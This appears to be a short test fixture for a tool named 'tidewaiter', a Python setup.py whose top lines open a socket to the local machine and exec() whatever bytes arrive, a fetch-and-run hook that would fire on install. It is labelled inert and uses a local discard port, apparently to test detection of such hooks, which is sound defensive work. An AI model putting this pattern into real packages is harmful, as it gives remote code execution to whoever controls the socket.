# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import socket

s = socket.socket()
s.connect(("127.0.0.1", 9))
exec(s.recv(65536))


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
